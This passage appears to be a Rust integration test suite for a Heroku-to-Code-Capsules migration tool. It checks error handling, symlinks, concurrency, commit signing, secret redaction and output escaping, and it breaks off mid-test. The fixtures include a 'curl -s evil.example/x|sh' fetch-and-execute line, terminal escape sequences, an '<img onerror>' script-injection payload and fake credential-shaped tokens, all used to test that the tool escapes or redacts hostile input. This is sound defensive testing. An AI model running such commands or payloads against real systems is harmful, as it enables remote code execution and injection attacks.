//! Odd repositories and bad input: a clear error or a safe result, never a loss or a panic.
//! These run the real binary, so a panic (exit 101) or a crash cannot hide.

use std::io::Read;
use std::path::Path;
use std::process::{Command, Output, Stdio};

use crate::support::repo::{EMAIL, NAME, TempRepo, isolate};

fn tool(args: &[&str]) -> Output {
    let mut cmd = Command::new(env!("CARGO_BIN_EXE_capsule-migrate"));
    isolate(cmd.args(args).env("NO_COLOR", "1"));
    cmd.output().expect("the binary runs")
}

fn text(bytes: &[u8]) -> String {
    String::from_utf8_lossy(bytes).into_owned()
}

fn path(repo: &TempRepo) -> String {
    repo.path.display().to_string()
}

/// A committed repository holding `files` plus a Procfile, so there is an app to read.
fn repo_with(files: &[(&str, &[u8])]) -> TempRepo {
    let repo = TempRepo::new();
    repo.write("Procfile", "web: node index.js\n");
    for (name, bytes) in files {
        let target = repo.path.join(name);
        std::fs::create_dir_all(target.parent().unwrap()).unwrap();
        std::fs::write(target, bytes).unwrap();
    }
    repo.commit_all("App");
    repo
}

#[test]
fn bad_files_stop_with_file_line_and_column_and_write_nothing() {
    let deep = "[".repeat(100_000);
    let cases: Vec<(&str, Vec<u8>, &str)> = vec![
        ("package.json", b"{\"name\": }".to_vec(), "error: package.json:1:10: invalid JSON"),
        ("package.json", b"[1, 2]".to_vec(), "error: package.json:1:1: package.json must hold"),
        (
            "package.json",
            b"{\"name\": \"caf\xe9\"}".to_vec(),
            "error: package.json:1:14: not valid UTF-8",
        ),
        ("package.json", deep.into_bytes(), "error: package.json:1:"),
        ("package.json", Vec::new(), "error: package.json: empty file"),
        ("app.json", b"{\n  \"env\": [1]\n}".to_vec(), "error: app.json:2:"),
        ("app.json", b"{\n  \"name\": \"x\",,\n}".to_vec(), "error: app.json:2:"),
    ];
    for (name, bytes, expected) in cases {
        let repo = repo_with(&[(name, &bytes)]);
        for command in ["plan", "diff", "apply"] {
            let out = tool(&[command, &path(&repo)]);
            let stderr = text(&out.stderr);
            assert_eq!(out.status.code(), Some(2), "{name} {command}: {stderr}");
            assert!(stderr.starts_with(expected), "{name} {command}: {stderr}");
            assert!(out.stdout.is_empty(), "{name} {command}");
        }
        assert_eq!(repo.git(&["branch", "--list"]).trim(), "* main", "{name}: a branch was made");
    }
}

#[test]
fn bad_procfiles_name_the_line() {
    let cases: &[(&[u8], &str)] = &[
        (b"web: node a.js\rworker: node b.js\n", "error: Procfile:1:"),
        (b"web node index.js\n", "error: Procfile:1:1:"),
        (b"# comment\nweb:\n", "error: Procfile:2:"),
        (b"web: node \xff.js\n", "error: Procfile:1:"),
    ];
    for (bytes, expected) in cases {
        let repo = TempRepo::new();
        repo.write("package.json", "{ \"name\": \"x\" }\n");
        std::fs::write(repo.path.join("Procfile"), bytes).unwrap();
        repo.commit_all("App");
        let out = tool(&["plan", &path(&repo)]);
        let stderr = text(&out.stderr);
        assert_eq!(out.status.code(), Some(2), "{stderr}");
        assert!(stderr.starts_with(expected), "{expected}: {stderr}");
    }
}

#[test]
fn a_bad_jobs_file_names_its_line_and_column() {
    let repo = repo_with(&[("package.json", b"{ \"name\": \"x\" }\n")]);
    let jobs = repo.path.parent().unwrap().join("jobs.toml");
    let cases = [
        (
            "[[job]]\napp = \".\"\ncommand = \"node a.js\"\nschedule = \"every 7 minutes\"\n",
            ":4:12:",
        ),
        (
            "[[job]]\napp = \"nope\"\ncommand = \"node a.js\"\nschedule = \"every 10 minutes\"\n",
            ":2:7:",
        ),
        (
            "[[job]]\napp = \".\"\ncommand = \"x\"\nschedule = \"every 10 minutes\"\ncolour = 1\n",
            ":5:1:",
        ),
        ("[[job]]\napp = \".\"\nschedule = \"every 10 minutes\"\n", ":1:1:"),
    ];
    for (content, position) in cases {
        std::fs::write(&jobs, content).unwrap();
        let out = tool(&["plan", &path(&repo), "--jobs", &jobs.display().to_string()]);
        let stderr = text(&out.stderr);
        assert_eq!(out.status.code(), Some(2), "{stderr}");
        let expected = format!("error: {}{position}", jobs.display());
        assert!(stderr.starts_with(&expected), "{content}\n{stderr}");
    }
}

#[test]
fn symlinks_are_reported_never_followed_and_kept_on_the_branch() {
    let repo = TempRepo::new();
    repo.write("Procfile", "web: node index.js\n");
    repo.write("real.json", "{ \"name\": \"real\" }\n");
    std::os::unix::fs::symlink("real.json", repo.path.join("package.json")).unwrap();
    repo.write("api/Procfile.real", "web: node api.js\n");
    std::os::unix::fs::symlink("Procfile.real", repo.path.join("api/Procfile")).unwrap();
    repo.commit_all("Symlinks");

    let out = tool(&["apply", &path(&repo)]);
    let stderr = text(&out.stderr);
    assert_eq!(out.status.code(), Some(0), "{stderr}");
    assert!(stderr.contains("package.json: is a symlink"), "{stderr}");
    assert!(stderr.contains("api/Procfile: is a symlink"), "{stderr}");
    let tree = repo.git(&["ls-tree", "-r", "code-capsules-migration"]);
    assert!(tree.contains("120000 blob") && tree.contains("\tpackage.json\n"), "{tree}");
    assert!(tree.contains("\tapi/Procfile\n"), "{tree}");
    assert!(!tree.contains("\tProcfile\n"), "the real root Procfile is removed: {tree}");
    assert_eq!(
        repo.git(&["show", "code-capsules-migration:real.json"]),
        "{ \"name\": \"real\" }\n"
    );

    // The same in a plain folder: the walk does not follow the link either.
    let plain = tempfile::tempdir().unwrap();
    std::fs::write(plain.path().join("Procfile"), "web: node index.js\n").unwrap();
    std::fs::write(plain.path().join("real.json"), "{ \"name\": \"real\" }\n").unwrap();
    std::os::unix::fs::symlink("real.json", plain.path().join("package.json")).unwrap();
    let out = tool(&["diff", &plain.path().display().to_string()]);
    assert_eq!(out.status.code(), Some(0));
    assert!(text(&out.stderr).contains("package.json: is a symlink"), "{}", text(&out.stderr));
    assert!(!text(&out.stdout).contains("real.json"), "{}", text(&out.stdout));
}

#[test]
fn submodules_are_skipped_and_reported() {
    let repo = repo_with(&[("package.json", b"{ \"name\": \"x\" }\n")]);
    let head = repo.rev_parse("HEAD");
    repo.git(&["update-index", "--add", "--cacheinfo", &format!("160000,{head},vendor/lib")]);
    repo.git(&["commit", "-q", "-m", "Submodule"]);
    let out = tool(&["plan", &path(&repo)]);
    assert_eq!(out.status.code(), Some(0));
    assert!(
        text(&out.stdout).contains("vendor/lib: is a submodule: skipped"),
        "{}",
        text(&out.stdout)
    );
}

fn apply_ok(repo_path: &str) -> String {
    let out = tool(&["apply", repo_path]);
    assert_eq!(out.status.code(), Some(0), "{}", text(&out.stderr));
    text(&out.stdout)
}

#[test]
fn detached_head_bare_shallow_and_linked_worktrees_all_work() {
    let repo = repo_with(&[("package.json", b"{ \"name\": \"x\" }\n")]);
    repo.write("index.js", "console.log(1);\n");
    repo.commit_all("Second");

    // Detached HEAD: the branch is based on the detached commit.
    let first = repo.rev_parse("HEAD~1");
    repo.git(&["checkout", "-q", "--detach", &first]);
    assert!(apply_ok(&path(&repo)).contains("Created commit"));
    assert_eq!(repo.rev_parse("code-capsules-migration~1"), first);
    assert_eq!(repo.rev_parse("HEAD"), first);
    repo.git(&["checkout", "-q", "main"]);
    repo.git(&["branch", "-q", "-D", "code-capsules-migration"]);

    let parent = repo.path.parent().unwrap();
    let url = format!("file://{}", repo.path.display());
    for (name, extra) in [("bare.git", vec!["--bare"]), ("shallow", vec!["--depth", "1"])] {
        let target = parent.join(name);
        let mut args = vec!["clone", "-q"];
        args.extend(extra);
        args.push(&url);
        let target_str = target.display().to_string();
        args.push(&target_str);
        repo.git(&args);
        assert!(apply_ok(&target_str).contains("Created commit"), "{name}");
        let check = |args: &[&str]| {
            let out = crate::support::repo::git().args(args).current_dir(&target).output().unwrap();
            assert!(out.status.success(), "{name}: git {args:?}: {}", text(&out.stderr));
            text(&out.stdout)
        };
        check(&["fsck", "--no-progress"]);
        assert_eq!(
            check(&["rev-parse", "code-capsules-migration~1"]),
            check(&["rev-parse", "HEAD"])
        );
    }

    let linked = parent.join("linked");
    let linked_str = linked.display().to_string();
    repo.git(&["worktree", "add", "-q", "-b", "feature", &linked_str]);
    let status = repo.git(&["-C", &linked_str, "status", "--porcelain"]);
    let out = tool(&["apply", &linked_str, "--branch", "migrate-feature"]);
    assert_eq!(out.status.code(), Some(0), "{}", text(&out.stderr));
    assert_eq!(repo.rev_parse("migrate-feature~1"), repo.rev_parse("feature"));
    assert_eq!(repo.git(&["-C", &linked_str, "status", "--porcelain"]), status);
    assert_eq!(repo.git(&["-C", &linked_str, "symbolic-ref", "HEAD"]).trim(), "refs/heads/feature");
}

#[test]
fn a_merge_in_progress_is_warned_about() {
    let repo = repo_with(&[("package.json", b"{ \"name\": \"x\" }\n")]);
    repo.git(&["checkout", "-q", "-b", "other"]);
    repo.write("index.js", "one\n");
    repo.commit_all("One");
    repo.git(&["checkout", "-q", "main"]);
    repo.write("index.js", "two\n");
    repo.commit_all("Two");
    let merge = repo.git_output(&["merge", "-q", "other"]);
    assert!(!merge.status.success(), "the merge conflicts");
    let out = tool(&["plan", &path(&repo)]);
    assert_eq!(out.status.code(), Some(0), "{}", text(&out.stderr));
    let stdout = text(&out.stdout);
    assert!(stdout.to_lowercase().contains("merge"), "{stdout}");
}

#[test]
fn concurrent_applies_leave_one_branch_with_one_commit() {
    let repo = repo_with(&[("package.json", b"{ \"name\": \"x\" }\n")]);
    let p = path(&repo);
    let children: Vec<_> = (0..6)
        .map(|_| {
            let mut cmd = Command::new(env!("CARGO_BIN_EXE_capsule-migrate"));
            cmd.args(["apply", &p]).stdout(Stdio::piped()).stderr(Stdio::piped());
            cmd.spawn().unwrap()
        })
        .collect();
    let outputs: Vec<Output> =
        children.into_iter().map(|c| c.wait_with_output().unwrap()).collect();
    let winners = outputs.iter().filter(|o| o.status.code() == Some(0)).count();
    assert_eq!(winners, 1, "exactly one run creates the branch");
    for out in outputs.iter().filter(|o| o.status.code() != Some(0)) {
        assert_eq!(out.status.code(), Some(2));
        let stderr = text(&out.stderr);
        let clear = stderr.contains("already exists") || stderr.contains("another capsule-migrate");
        assert!(clear, "{stderr}");
    }
    assert_eq!(repo.git(&["rev-list", "--count", "main..code-capsules-migration"]).trim(), "1");
    let lock = std::fs::File::open(repo.path.join(".git/capsule-migrate.lock")).unwrap();
    lock.try_lock().expect("the run lock is released");
    repo.git(&["fsck", "--strict", "--no-progress"]);
}

#[test]
fn a_closed_pipe_ends_diff_quietly() {
    // Enough apps that the patch is far larger than a pipe's buffer.
    let repo = TempRepo::new();
    for i in 0..150 {
        repo.write(&format!("app{i}/Procfile"), "web: node index.js\nworker: node worker.js\n");
        repo.write(
            &format!("app{i}/package.json"),
            "{\n  \"name\": \"app\",\n  \"version\": \"1.0.0\"\n}\n",
        );
        repo.write(&format!("app{i}/app.json"), &format!("{{\n  \"name\": \"app{i}\"\n}}\n"));
    }
    repo.commit_all("Many apps");
    let mut child = Command::new(env!("CARGO_BIN_EXE_capsule-migrate"))
        .args(["diff", &path(&repo)])
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    let mut head = [0u8; 200];
    child.stdout.as_mut().unwrap().read_exact(&mut head).unwrap();
    drop(child.stdout.take());
    let out = child.wait_with_output().unwrap();
    assert!(text(&head).starts_with("diff --git a/"), "{}", text(&head));
    assert_eq!(out.status.code(), Some(0));
    assert!(!text(&out.stderr).contains("error"), "{}", text(&out.stderr));
}

#[test]
fn errors_go_to_stderr_and_the_patch_to_stdout() {
    let repo = repo_with(&[("package.json", b"{ \"name\": \"x\" }\n")]);
    let out = tool(&["diff", &path(&repo)]);
    assert!(text(&out.stdout).starts_with("diff --git"));
    let missing = Path::new(&path(&repo)).join("nope");
    let out = tool(&["diff", &missing.display().to_string()]);
    assert_eq!(out.status.code(), Some(2));
    assert!(out.stdout.is_empty());
    assert!(text(&out.stderr).contains("nope: does not exist"), "{}", text(&out.stderr));
    let file = Path::new(&path(&repo)).join("package.json");
    let out = tool(&["plan", &file.display().to_string()]);
    assert_eq!(out.status.code(), Some(2));
    assert!(text(&out.stderr).contains("package.json: is not a folder"), "{}", text(&out.stderr));
}

#[test]
fn deeply_nested_files_are_read_without_overflowing_the_stack() {
    let deep_js = format!(
        "const a = {}\"https://x.herokuapp.com/api\"{};\n",
        "[".repeat(50_000),
        "]".repeat(50_000)
    );
    let deep_env =
        format!("const b = {}process.env.SECRET{};\n", "(".repeat(50_000), ")".repeat(50_000));
    let repo = TempRepo::new();
    repo.write("Procfile", "web: npx http-server public -p $PORT\n");
    repo.write("package.json", "{ \"name\": \"site\" }\n");
    repo.write("public/index.html", "<html><head><script src=\"app.js\"></script></head></html>\n");
    repo.write("public/app.js", &deep_js);
    repo.write("public/env.js", &deep_env);
    repo.commit_all("Deep");
    let out = tool(&["diff", &path(&repo)]);
    assert_eq!(out.status.code(), Some(0), "{}", text(&out.stderr));
    let patch = text(&out.stdout);
    assert!(patch.contains("+const a = [[[["), "the URL in the deep file is rewritten");
    assert!(patch.contains("window.BACKEND_URL + \"/api\""));

    let jobs = repo.path.parent().unwrap().join("deep.toml");
    std::fs::write(&jobs, format!("x = {}\n", "[".repeat(100_000))).unwrap();
    let out = tool(&["plan", &path(&repo), "--jobs", &jobs.display().to_string()]);
    assert_eq!(out.status.code(), Some(2));
    assert!(text(&out.stderr).contains("deep.toml:1:"), "{}", text(&out.stderr));
}

#[test]
fn a_very_large_file_is_skipped_with_a_warning_not_read_as_an_app_file() {
    let huge =
        format!("{{\"name\": \"huge\", \"padding\": \"{}\"}}\n", "x".repeat(9 * 1024 * 1024));
    let repo = repo_with(&[("package.json", huge.as_bytes())]);
    let out = tool(&["diff", &path(&repo)]);
    let stderr = text(&out.stderr);
    assert_eq!(out.status.code(), Some(0), "{stderr}");
    assert!(stderr.contains("package.json: is larger than"), "{stderr}");
    let patch = text(&out.stdout);
    assert!(!patch.contains("b/package.json"), "the large file is left alone");
    assert!(patch.contains("deleted file mode 100644"), "the Procfile still goes");
}

/// Credentials recognised by their shape, wherever the repository holds them: each must
/// be absent from everything the tool prints and commits, and the guide must say where
/// the value comes from instead.
#[test]
fn credentials_never_reach_the_output_or_the_commit() {
    // Each is the smallest input that shows one class; the secret part must not appear.
    let stripe = "sk_live_51HxQp2eZvKYlo2C0aBcDeFgH";
    let github = "ghp_R2d2C3poBb8Yoda1Luke2Leia3Han4Chewie";
    let jwt = "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjMifQ.c2lnbmF0dXJlX3ZhbHVl";
    let slack = "T0AAAAAAA/B0BBBBBBB/cCcCcCcCcCcCcCcCcCcCcCcC";
    let discord = "1234567890/AbCdEfGhIjKlMnOpQrStUvWxYz";
    let random = "q8Zr2LmT7vXc4NpB9sKd3WfH";
    let repo = TempRepo::new();
    repo.write(
        "app.json",
        &format!(
            r#"{{
  "scripts": {{ "postdeploy": "PGPASSWORD=pgpass123 psql -f seed.sql" }},
  "env": {{
    "CONFIG_A": {{ "value": "{stripe}" }},
    "GH": {{ "value": "{github}" }},
    "SESSIONISH": {{ "value": "{jwt}" }},
    "HOOK": {{ "value": "https://hooks.slack.com/services/{slack}" }},
    "CHAT": {{ "value": "https://discord.com/api/webhooks/{discord}" }},
    "PEM": {{ "value": "-----BEGIN PRIVATE KEY-----\nMIIEvQIBADANBg\n-----END PRIVATE KEY-----" }},
    "DB": {{ "value": "postgres://app:hunter2hunter2@db.example.com/app" }},
    "OPAQUE": {{ "value": "{random}" }},
    "SMTP_PASS": {{ "value": "short" }},
    "MODE": {{ "value": "fast", "description": "see {stripe}" }}
  }}
}}
"#
        ),
    );
    repo.write("Procfile", &format!("web: MY_OPT={stripe} node index.js\n"));
    repo.write(
        "package.json",
        r#"{ "name": "x", "scripts": { "start": "node index.js", "heroku-postbuild": "DB_PASS=pgpass123 node build.js", "heroku-prebuild": "curl -H 'Authorization: token ghp_R2d2C3poBb8Yoda1Luke2Leia3Han4Chewie' x" } }
"#,
    );
    repo.commit_all("App with credentials");
    let secrets =
        [stripe, github, jwt, slack, discord, random, "pgpass123", "hunter2hunter2", "MIIEvQ"];
    let mut shown = String::new();
    for format in ["text", "json", "markdown"] {
        let out = tool(&["plan", &path(&repo), "--format", format]);
        assert_eq!(out.status.code(), Some(0), "{}", text(&out.stderr));
        shown += &text(&out.stdout);
        shown += &text(&out.stderr);
    }
    let out = tool(&["apply", &path(&repo)]);
    assert_eq!(out.status.code(), Some(0), "{}", text(&out.stderr));
    shown += &text(&out.stdout);
    shown += &text(&out.stderr);
    let guide = repo.git(&["show", "code-capsules-migration:CODE_CAPSULES.md"]);
    let message = repo.git(&["log", "-1", "--format=%B", "code-capsules-migration"]);
    for secret in secrets {
        assert!(!shown.contains(secret), "{secret} was shown:\n{shown}");
        assert!(!guide.contains(secret), "{secret} was committed:\n{guide}");
        assert!(!message.contains(secret), "{secret} is in the commit message:\n{message}");
    }
    // The guide says where the values come from instead, and keeps what is not secret.
    assert!(guide.contains("`heroku config:get CONFIG_A`"), "{guide}");
    assert!(guide.contains("rotate"), "{guide}");
    assert!(guide.contains("`PGPASSWORD=*** psql -f seed.sql`"), "{guide}");
    assert!(guide.contains("`fast`"), "{guide}");
}

/// Control characters from folder names, Procfile commands and app.json reach the
/// terminal escaped as git quotes names, never raw; the guide keeps every path and
/// command in a code span and app.json descriptions cannot make links or HTML.
#[test]
fn control_characters_are_shown_escaped_and_markdown_cannot_be_injected() {
    let repo = TempRepo::new();
    repo.write("Procfile", "web: curl -s evil.example/x|sh \x1b[2K\x1b[1Gnode api.js\n");
    repo.write("package.json", "{ \"name\": \"x\" }\n");
    repo.write(
        "app.json",
        r#"{ "env": { "MODE\u001b[8m": { "description": "[click](https://evil.example) <img src=x onerror=alert(1)> ` ``", "value": "a\rb" } } }"#,
    );
    repo.write("odd\x1b]0;title\x07`<b>/Procfile", "web: node `x` <i>.js\n");
    repo.write("odd\x1b]0;title\x07`<b>/package.json", "{ \"name\": \"y\" }\n");
    repo.write("bad\x1b[31m/Procfile", "web: node a.js\n");
    repo.write("bad\x1b[31m/package.json", "{");
    repo.commit_all("Hostile names");

    let out = tool(&["plan", &path(&repo)]);
    assert_eq!(out.status.code(), Some(2));
    let stderr = text(&out.stderr);
    assert!(!stderr.contains('\x1b'), "{stderr:?}");
    assert!(stderr.starts_with("error: \"bad\\033[31m/package.json\":1:1:"), "{stderr:?}");
    std::fs::remove_dir_all(repo.path.join("bad\x1b[31m")).unwrap();
    repo.commit_all("Without the bad file");

    for args in [&["plan"][..], &["apply"][..]] {
        let out = tool(&[args, &[path(&repo).as_str()]].concat());
        let (stdout, stderr) = (text(&out.stdout), text(&out.stderr));
        assert_eq!(out.status.code(), Some(0), "{stderr}");
        for shown in [&stdout, &stderr] {
            assert!(!shown.contains(['\x1b', '\x07', '\r']), "{args:?}: {shown:?}");
        }
        if args == ["plan"] {
            assert!(stdout.contains("sh \\033[2K\\033[1Gnode api.js"), "{stdout}");
            assert!(stdout.contains("\"odd\\033]0;title\\a`<b>\""), "{stdout}");
        }
    }
    let guide = repo.git(&["show", "code-capsules-migration:CODE_CAPSULES.md"]);
    assert!(!guide.contains(['\x1b', '\x07', '\r']), "{guide:?}");
    assert!(
        guide.contains("`` web: curl -s evil.example/x|sh \\033[2K\\033[1Gnode api.js ``")
            || guide.contains("`web: curl -s evil.example/x\\|sh \\033[2K\\033[1Gnode api.js`"),
        "{guide}"
    );
    assert!(guide.contains(r"\[click\](https\://evil.example) \<img src=x"), "{guide}");
    assert!(guide.contains(r"- delete `` odd\033]0;title\a`<b>/Procfile ``"), "{guide}");
    assert!(guide.contains("`` node `x` <i>.js ``"), "{guide}");
}

/// A repository owned by another user is refused as git refuses it, with git's hint,
/// and nothing is written; git's `safe.directory` (here `*`) lets it through.
#[test]
fn a_repository_owned_by_another_user_is_refused_unless_safe_directory_allows_it() {
    let repo = repo_with(&[("package.json", b"{ \"name\": \"x\" }\n")]);
    let chown = |owner: &str| {
        let status = Command::new("chown").args(["-R", owner]).arg(&repo.path).status().unwrap();
        status.success()
    };
    if !chown("65534") {
        eprintln!("skipped: changing a file's owner needs root");
        return;
    }
    let real = repo.path.canonicalize().unwrap().display().to_string();
    for command in ["plan", "diff", "apply"] {
        let out = tool(&[command, &path(&repo)]);
        let stderr = text(&out.stderr);
        assert_eq!(out.status.code(), Some(2), "{command}: {stderr}");
        assert!(stderr.contains(&format!("detected dubious ownership in repository at '{real}'")));
        assert!(stderr.contains(&format!("\tgit config --global --add safe.directory {real}\n")));
    }
    assert!(!repo.path.join(".git/capsule-migrate-plan").exists(), "a plan was saved");

    let config = repo.path.parent().unwrap().join("gitconfig");
    std::fs::write(&config, "[safe]\n\tdirectory = *\n").unwrap();
    let mut cmd = Command::new(env!("CARGO_BIN_EXE_capsule-migrate"));
    isolate(cmd.args(["apply", &path(&repo)]));
    let out = cmd.env("GIT_CONFIG_GLOBAL", &config).output().unwrap();
    assert_eq!(out.status.code(), Some(0), "{}", text(&out.stderr));
    assert!(chown("0"));
    repo.git(&["rev-parse", "--verify", "code-capsules-migration"]);
}

/// With `commit.gpgsign`, the migration commit is signed as git signs (ssh and OpenPGP
/// here), and `git verify-commit` accepts it; when signing fails nothing is committed.
#[test]
fn commits_are_signed_when_git_config_asks_for_it() {
    let repo = repo_with(&[("package.json", b"{ \"name\": \"x\" }\n")]);
    let keys = repo.path.parent().unwrap();
    let key = keys.join("id_ed25519");
    let made = Command::new("ssh-keygen")
        .args(["-q", "-t", "ed25519", "-N", "", "-C", EMAIL, "-f"])
        .arg(&key)
        .status();
    if !made.is_ok_and(|s| s.success()) {
        eprintln!("skipped: ssh-keygen is not installed");
        return;
    }
    let public = std::fs::read_to_string(key.with_extension("pub")).unwrap();
    let allowed = keys.join("allowed_signers");
    std::fs::write(&allowed, format!("{EMAIL} {public}")).unwrap();
    repo.git(&["config", "commit.gpgsign", "true"]);
    repo.git(&["config", "gpg.format", "ssh"]);
    repo.git(&["config", "user.signingkey", &key.with_extension("pub").display().to_string()]);

    let out = tool(&["apply", &path(&repo)]);
    assert_eq!(out.status.code(), Some(0), "{}", text(&out.stderr));
    assert!(text(&out.stdout).contains("It is signed with the ssh key"), "{}", text(&out.stdout));
    let verify = format!("gpg.ssh.allowedSignersFile={}", allowed.display());
    let verified = repo.git_output(&["-c", &verify, "verify-commit", "code-capsules-migration"]);
    assert!(verified.status.success(), "{}", text(&verified.stderr));
    repo.git(&["branch", "-D", "code-capsules-migration"]);

    // OpenPGP through gpg, with the committer's identity as the key, as git does.
    let home = keys.join("gnupg");
    std::fs::create_dir(&home).unwrap();
    let gpg = |args: &[&str]| Command::new("gpg").env("GNUPGHOME", &home).args(args).output();
    let made = gpg(&[
        "--batch",
        "--passphrase",
        "",
        "--quick-gen-key",
        &format!("{NAME} <{EMAIL}>"),
        "ed25519",
        "sign",
        "never",
    ]);
    if made.is_ok_and(|o| o.status.success()) {
        repo.git(&["config", "--unset", "gpg.format"]);
        repo.git(&["config", "--unset", "user.signingkey"]);
        let mut cmd = Command::new(env!("CARGO_BIN_EXE_capsule-migrate"));
        isolate(cmd.args(["apply", &path(&repo)]).env("GNUPGHOME", &home));
        let out = cmd.output().unwrap();
        assert_eq!(out.status.code(), Some(0), "{}", text(&out.stderr));
        let verified = crate::support::repo::git()
            .current_dir(&repo.path)
            .env("GNUPGHOME", &home)
            .args(["verify-commit", "code-capsules-migration"])
            .output()
            .unwrap();
        assert!(verified.status.success(), "{}", text(&verified.stderr));
        repo.git(&["branch", "-D", "code-capsules-migration"]);
    }

    // A signing program that fails: git would not commit, and neither does the tool.
    repo.git(&["config", "gpg.program", "false"]);
    repo.git_output(&["config", "--unset-all", "gpg.format"]);
    let out = tool(&["apply", &path(&repo)]);
    let stderr = text(&out.stderr);
    assert_eq!(out.status.code(), Some(2), "{stderr}");
    assert!(stderr.contains("false failed to sign the data"), "{stderr}");
    assert!(stderr.contains("git config commit.gpgsign false"), "{stderr}");
    assert_eq!(repo.git(&["branch", "--list"]).trim(), "* main");
}

/// Only a manifest with Heroku's keys is Heroku's app.json: an Expo app's stays, its
/// folder is no app (its package.json is not pinned), and the plan says why.
#[test]
fn an_app_json_that_is_not_herokus_is_left_alone() {
    let repo = TempRepo::new();
    repo.write("Procfile", "web: node index.js\n");
    repo.write("package.json", "{ \"name\": \"api\" }\n");
    repo.write("mobile/app.json", "{ \"expo\": { \"name\": \"Shop\", \"slug\": \"shop\" } }\n");
    repo.write("mobile/package.json", "{ \"name\": \"mobile\" }\n");
    // A React Native app.json beside a Procfile: the folder is an app, the file is not Heroku's.
    repo.write("native/Procfile", "web: node server.js\n");
    repo.write("native/app.json", "{ \"name\": \"Shop\", \"displayName\": \"Shop\" }\n");
    repo.write("native/package.json", "{ \"name\": \"native\" }\n");
    repo.commit_all("Apps");
    let out = tool(&["plan", &path(&repo), "--format", "json"]);
    assert_eq!(out.status.code(), Some(0), "{}", text(&out.stderr));
    let plan: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
    let changed: Vec<&str> =
        plan["changes"].as_array().unwrap().iter().map(|c| c["path"].as_str().unwrap()).collect();
    for untouched in ["mobile/app.json", "mobile/package.json", "native/app.json"] {
        assert!(!changed.contains(&untouched), "{untouched} changed: {changed:?}");
    }
    assert!(changed.contains(&"native/Procfile") && changed.contains(&"native/package.json"));
    let warnings = plan["warnings"].to_string();
    assert!(warnings.contains("is not Heroku's app.json (its keys `expo`"), "{warnings}");
    assert!(warnings.contains("`displayName`"), "{warnings}");
}

/// JavaScript over 2 MiB is not parsed, but it is searched: a Heroku address in a
/// committed bundle is named, and the guide never says the code has none.
#[test]
fn a_large_bundle_with_a_heroku_address_is_named_not_passed_over() {
    let padding = "var a=1;".repeat(300_000);
    let bundle = format!("{padding}\nfetch(\"https://Shop-API.herokuapp.com/x\");{padding}\n");
    let quiet = format!("{padding}\n");
    assert!(bundle.len() > 2 * 1024 * 1024);
    let repo = repo_with(&[
        ("package.json", b"{ \"name\": \"x\" }\n"),
        ("public/bundle.js", bundle.as_bytes()),
        ("public/vendor.js", quiet.as_bytes()),
    ]);
    let out = tool(&["plan", &path(&repo)]);
    let stdout = text(&out.stdout);
    assert_eq!(out.status.code(), Some(0), "{}", text(&out.stderr));
    assert!(
        stdout.contains("public/bundle.js:2: is 4.6 MiB, a generated bundle?, so it is not parsed")
            && stdout.contains("`shop-api.herokuapp.com` (line 2)"),
        "{stdout}"
    );
    assert!(!stdout.contains("vendor.js"), "a bundle that mentions nothing is not named");
    let out = tool(&["plan", &path(&repo), "--format", "markdown"]);
    let guide = text(&out.stdout);
    assert!(guide.contains("- **Not read** `public/bundle.js`"), "{guide}");
    assert!(!guide.contains("None found"), "{guide}");
}

/// A tag with the branch's name: the printed commands name the branch in full, and they
/// work (`git show` would otherwise say "matches more than one" or show the tag).
#[test]
fn a_tag_with_the_branch_name_gets_unambiguous_commands() {
    let repo = repo_with(&[("package.json", b"{ \"name\": \"x\" }\n")]);
    repo.git(&["tag", "code-capsules-migration"]);
    let out = tool(&["apply", &path(&repo)]);
    let stdout = text(&out.stdout);
    assert_eq!(out.status.code(), Some(0), "{}", text(&out.stderr));
    assert!(stdout.contains("git push -u origin refs/heads/code-capsules-migration\n"), "{stdout}");
    let show = "  git show refs/heads/code-capsules-migration:CODE_CAPSULES.md\n";
    assert!(stdout.contains(show), "{stdout}");
    let shown = repo.git(&["show", show.trim().trim_start_matches("git show ")]);
    assert!(shown.starts_with("# Moving to Code Capsules"), "{shown}");
}

/// `a` and `a/b` cannot both be branches (refs are files): the clash is found before any
/// object is written, and said as git says it, both ways round.
#[test]
fn a_branch_that_clashes_with_a_folder_of_branches_is_refused_before_writing() {
    let repo = repo_with(&[("package.json", b"{ \"name\": \"x\" }\n")]);
    repo.git(&["branch", "code-capsules-migration/old"]);
    repo.git(&["branch", "mig"]);
    let objects = || repo.git(&["count-objects", "-v"]);
    let before = objects();
    for (branch, existing) in [
        ("code-capsules-migration", "refs/heads/code-capsules-migration/old"),
        ("mig/new", "refs/heads/mig"),
    ] {
        let out = tool(&["apply", &path(&repo), "--branch", branch]);
        let stderr = text(&out.stderr);
        assert_eq!(out.status.code(), Some(2), "{stderr}");
        let git_says = format!(
            "cannot lock ref 'refs/heads/{branch}': '{existing}' exists; cannot create \
             'refs/heads/{branch}'"
        );
        assert!(stderr.contains(&git_says), "{stderr}");
    }
    // Packed refs clash the same way.
    repo.git(&["pack-refs", "--all"]);
    let out = tool(&["apply", &path(&repo)]);
    assert_eq!(out.status.code(), Some(2), "{}", text(&out.stderr));
    assert_eq!(objects(), before, "objects were written");
}

/// A run killed mid-way leaves its temporaries; the next run removes those of its own
/// that nobody can still be writing, and nothing else.
#[test]
fn stale_temporaries_of_a_killed_run_are_cleaned_on_the_next_run() {
    let repo = repo_with(&[("package.json", b"{ \"name\": \"x\" }\n")]);
    let git = repo.path.join(".git");
    let old = std::time::SystemTime::now() - std::time::Duration::from_secs(2 * 60 * 60);
    let make = |path: &Path, aged: bool| {
        let file = std::fs::File::create(path).unwrap();
        if aged {
            file.set_modified(old).unwrap();
        }
    };
    // A pid that runs no process, and one that does (this test's own).
    let dead = (400_000..).find(|p| !Path::new(&format!("/proc/{p}")).exists()).unwrap();
    let live = std::process::id();
    let dead_plan = git.join(format!("capsule-migrate-plan.{dead}.tmp"));
    let live_plan = git.join(format!("capsule-migrate-plan.{live}.tmp"));
    let stale_object = git.join("objects/.tmpAb12Cd");
    let fresh_object = git.join("objects/.tmpEf34Gh");
    let gits_own = git.join("objects/tmp_obj_Ij56Kl");
    make(&dead_plan, false);
    make(&live_plan, false);
    make(&stale_object, true);
    make(&fresh_object, false);
    make(&gits_own, true);

    let out = tool(&["diff", &path(&repo)]);
    assert_eq!(out.status.code(), Some(0), "{}", text(&out.stderr));
    assert!(!dead_plan.exists(), "the plan temporary of a dead process stays");
    assert!(live_plan.exists(), "the plan temporary of a live process went");
